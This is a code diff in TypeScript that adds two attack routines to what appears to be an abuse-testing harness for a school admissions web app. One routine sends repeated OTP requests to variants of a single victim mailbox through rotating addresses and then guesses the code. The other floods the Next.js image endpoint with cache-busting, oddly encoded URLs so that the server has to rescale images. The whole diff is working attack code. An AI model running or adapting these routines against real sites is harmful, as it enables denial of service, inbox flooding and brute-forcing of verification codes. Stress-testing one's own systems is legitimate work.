@@ -1,3 +1,4 @@
+import { z } from 'zod';
 import {
   type Attack,
   addresses,
@@ -36,3 +37,41 @@ export const applications: Attack = (site) => {
     if (agent) await post(agent, site, 'create-admission', parent);
   });
 };
+
+const begun = z.object({ application_id: z.string() });
+
+/** Codes to one mailbox in many writings, with guesses in between. */
+export const codeRequests: Attack = async (site) => {
+  const agents = addresses(4).map((address) => agentFrom(address, site, 8));
+  await repeat(32, async (n) => {
+    const agent = agents[n % agents.length];
+    if (!agent) return;
+    const parent = { first_name: 'Gopal', last_name: 'Rao', email: `victim+${n}@example.org` };
+    const { status, text } = await post(agent, site, 'create-admission', parent);
+    const application_id = status === 201 ? begun.parse(JSON.parse(text)).application_id : 'none';
+    await post(agent, site, 'send-otp', { application_id });
+    await post(agent, site, 'verify-otp', { email: application_id, otp: '123456' });
+  });
+};
+
+/** Each query and writing of an address once was another picture to scale and to keep. */
+export const pictureQueries: Attack = async (site) => {
+  const page = await readPage(site, '/');
+  const scaled = [...page.matchAll(/\/_next\/image\?url=([^&"]+)&amp;w=(\d+)/g)];
+  const sources = scaled.map(([, url = '', width = '']) => ({ url, width }));
+  await floodWithGets(site, (n) => {
+    const { url, width } = sources[n % sources.length] ?? { url: '', width: '' };
+    return `/_next/image?url=${written(url, n)}%3Fx%3D${n}&w=${width}&q=75&y=${n}`;
+  });
+};
+
+/** Some letters of the file's name, each time others, encoded although they need not be. */
+function written(url: string, n: number): string {
+  const at = url.lastIndexOf('%2F') + 3;
+  let bit = 0;
+  const name = url.slice(at).replace(/[a-z]/g, (letter) => {
+    const isChosen = (n >> (bit++ % 16)) & 1;
+    return isChosen ? `%25${letter.charCodeAt(0).toString(16)}` : letter;
+  });
+  return url.slice(0, at) + name;
+}
